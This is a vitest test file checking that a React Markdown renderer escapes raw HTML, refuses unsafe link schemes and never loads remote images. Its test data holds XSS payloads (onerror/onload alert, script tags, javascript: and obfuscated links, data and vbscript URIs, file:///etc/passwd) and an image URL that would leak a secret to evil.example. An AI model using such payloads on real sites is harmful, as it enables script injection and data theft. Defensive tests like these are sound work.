import { assert, property, string } from 'fast-check';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { MarkdownText } from '../../../renderer/ui/text/markdown-text.tsx';
import { isSafeHref } from '../../../renderer/ui/text/parse-markdown.ts';

const draw = (text: string) => renderToStaticMarkup(<MarkdownText text={text} />);

describe('Markdown from documents and models', () => {
  it('draws emphasis, lists, tables, code and quotes', () => {
    const markup = draw('**5 days**, `k`\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n> said');
    for (const part of [
      '<strong>5 days</strong>',
      '<code>k</code>',
      '<li>one</li>',
      '<th>a</th>',
      '<td>2</td>',
      '<blockquote>',
    ]) {
      expect(markup).toContain(part);
    }
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    'text <iframe src="https://evil.example"></iframe> text',
    '<a href="javascript:alert(1)">x</a>',
    '<svg/onload=alert(1)>',
  ])('shows HTML as the characters it is: %s', (html) => {
    const markup = draw(html);
    expect(markup).not.toMatch(/<(img|script|iframe|svg)\b/i);
    expect(markup).toContain('&lt;');
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JAVASCRIPT:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example/x)',
    '[x](http://evil.example)',
    '[x](#/settings)',
  ])('does not make a link of %s', (text) => {
    expect(draw(text)).not.toContain('<a');
  });

  it('never asks the network for a picture', () => {
    const markup = draw('![secret](https://evil.example/?q=secret) ![][ref]\n\n[ref]: https://evil.example/p.png');
    expect(markup).not.toContain('<img');
    expect(markup).not.toContain('evil.example');
    expect(markup).toContain('secret');
  });

  it('follows https and mailto only, without telling the target where it came from', () => {
    expect(draw('[docs](https://example.org/a)')).toContain(
      '<a href="https://example.org/a" target="_blank" rel="noreferrer">',
    );
    expect(isSafeHref('mailto:desk@example.org')).toBe(true);
    expect(isSafeHref('/relative')).toBe(false);
  });

  it('opens no element of its own for any text', () => {
    assert(
      property(string({ maxLength: 200 }), (text) => {
        expect(draw(text)).not.toMatch(/<(script|img|iframe|object|embed|style|link|meta|form|input)\b/i);
      }),
    );
  });

  it('lets the caller draw parts of running text', () => {
    const markup = renderToStaticMarkup(
      <MarkdownText
        text="Up to 5 days. [1]"
        renderText={(text) => text.split('[1]').map((part, index) => (index === 0 ? part : <b key={index}>1</b>))}
      />,
    );
    expect(markup).toContain('Up to 5 days. <b>1</b>');
  });
});
